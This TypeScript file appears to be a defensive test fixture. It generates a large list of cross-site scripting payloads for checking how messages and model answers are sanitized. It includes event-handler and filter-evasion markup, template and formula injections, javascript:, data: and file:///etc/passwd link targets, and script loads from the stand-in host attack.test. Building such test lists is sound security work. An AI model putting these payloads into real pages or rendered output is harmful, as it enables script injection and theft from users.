/** The script that every attack tries to run. */
const run = 'alert(1)'

const handlers = [
  ...['onerror', 'onload', 'onclick', 'onfocus', 'onpointerover', 'onanimationstart', 'ontoggle', 'onbegin'],
  ...['onpageshow', 'oncontentvisibilityautostatechange', 'onbeforetoggle', 'onscrollend', 'onpaste'],
]
const bearers = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe srcdoc=x'],
  ...['marquee', 'object data=x', 'x contenteditable tabindex=0 autofocus', 'dialog open', 'select autofocus'],
]

/** Markup that runs a script by itself or on interaction. */
const markup = [
  ...bearers.flatMap((bearer, at) => {
    const handler = handlers[at % handlers.length] ?? 'onerror'
    return [`<${bearer} ${handler}=${run}>`, `"><${bearer} ${handler.toUpperCase()}="${run}">`]
  }),
  ...handlers.map((handler) => `<img/src="x"/${handler}=\n${run}//`),
  `<script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `'"><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script src=//attack.test/x.js></script>`,
  `<script type=module>import('data:text/javascript,${run}')</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x">`,
  `<svg><set attributeName=href to=javascript:${run} /><a><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<math href="javascript:${run}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<embed src="javascript:${run}">`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<base href="javascript:/a/-${run}///">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="data:text/css,*{background:url('//attack.test/x')}">`,
  `<style>@import '//attack.test/x.css';</style>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}"></b>`,
  `<div style="background:url(javascript:${run})">`,
  `<b popover id=x onbeforetoggle=${run}>x</b><button popovertarget=x>x</button>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction=javascript:${run} form=x>x</button>`,
  `<input type=image src=x onerror=${run}>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&Tab;script:${run}">x</a>`,
  `<a href=" &#14; javascript:${run}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;script&colon;${run}">x</a>`,
  `<a target=_blank href="data:text/html,<script>opener.${run}</script>">x</a>`,
  `<a id=x tabindex=1 onfocus=${run}></a>`,
  `<xss id=x style="transition:outline 1s" ontransitionend=${run} tabindex=1></xss>`,
  `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
  `<img src=x onerror=\u{2028}${run}>`,
  `<img src=x onerror="alert\`1\`">`,
  `<img src=x onerror="[1].find(alert)">`,
  `<img src=x onerror="throw onerror=alert,1">`,
  `<img src=x onerror="window['al'+'ert'](1)">`,
  `<img src=x onerror=eval(atob('YWxlcnQoMSk='))>`,
  `<img src=x onerror="import('data:text/javascript,${run}')">`,
  `<img srcset="x 1x" onerror=${run}>`,
  `<picture><source srcset=x><img onerror=${run}></picture>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=javascript:${run}></video>`,
  `<table background="javascript:${run}">`,
  `<frameset onload=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `＜script＞${run}＜/script＞`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
]

/** Texts that other programs would evaluate: templates, formulas, script strings. */
const injections = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{$on.constructor("alert(1)")()}}',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  '${alert(1)}',
  '`${alert(1)}`',
  `';${run}//`,
  `";${run}//`,
  `\\";${run}//`,
  `</script><script>${run}//`,
  `*/${run}/*`,
  `javascript:${run}`,
  'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=alert(1)//>',
  `-->'"/></sCript><svg x=">" onload=(co\u006efirm)\`\`>`,
  `';alert(String.fromCharCode(88,83,83))//";alert(1)//--></SCRIPT>">'><SCRIPT>${run}</SCRIPT>`,
  '=HYPERLINK("http://attack.test","x")',
  '__proto__',
  'constructor',
  '\u202e>tpircs/<)1(trela>tpircs<',
  '\u200b<\u200bscript>alert(1)</script>',
  '\ud83d\ude00<img src=x onerror=alert(1)>',
]

/** Hostile link targets. */
const targets = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)'],
  ...['javascript:%61lert%281%29', 'javascript://attack.test/%0aalert(1)', 'java\tscript:alert(1)'],
  ...[
    '\u0001javascript:alert(1)',
    '\u00a0javascript:alert(1)',
    'x:javascript:alert(1)',
    'view-source:javascript:alert(1)',
  ],
  ...[
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'mocha:alert(1)',
    'jar:javascript:alert(1)',
    'feed:javascript:alert(1)',
  ],
  ...['data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ...['data:image/svg+xml,<svg/onload=alert(1)>', 'blob:https://attack.test/1', 'filesystem:https://attack.test/x'],
  ...[
    'file:///etc/passwd',
    'about:blank',
    'chrome://settings',
    'intent://x#Intent;end',
    'ms-word:ofe|u|http://attack.test',
  ],
  ...['//attack.test', '\\\\attack.test', '/\\attack.test', 'https:attack.test', 'http:javascript:alert(1)'],
  ...[
    'https://gangway.test@attack.test/',
    'https://user:word@attack.test/',
    '#javascript:alert(1)',
    '?x=javascript:alert(1)',
  ],
  ...[
    'mailto:a@b.test?body=<script>alert(1)</script>',
    'tel:javascript:alert(1)',
    'https://attack.test/"onclick="alert(1)',
  ],
  ...["https://attack.test/'onmouseover='alert(1)", 'https://attack.test/><img/src=x/onerror=alert(1)>'],
]

/** Each target as a Markdown link, image and autolink. */
const links = targets.flatMap((target) => [`[pay here](${target})`, `![picture](${target})`, `<${target}>`])

const nested = [
  `[**<img src=x onerror=${run}>**](https://attack.test)`,
  `[<script>${run}</script>](https://attack.test)`,
  `**<svg onload=${run}>**`,
  `\`<img src=x onerror=${run}>\``,
  `# <img src=x onerror=${run}>`,
  `[x](https://attack.test "onmouseover=${run}")`,
  `[x]: javascript:${run}\n[x]`,
  `![x](https://attack.test/x.png)`,
  `[![x](https://attack.test/x.png)](javascript:${run})`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | [x](javascript:${run}) |`,
  `> <img src=x onerror=${run}>`,
  `~~~html\n<img src=x onerror=${run}>\n~~~`,
]

const plain = [...markup, ...injections, ...nested, ...links]

/** Attacks in messages and model answers, alone and inside lists. */
export const attacks: readonly string[] = [
  ...plain,
  ...plain.filter((attack) => !attack.includes('\n')).flatMap((attack) => [`- ${attack}`, `1. x\n2. ${attack}`]),
]
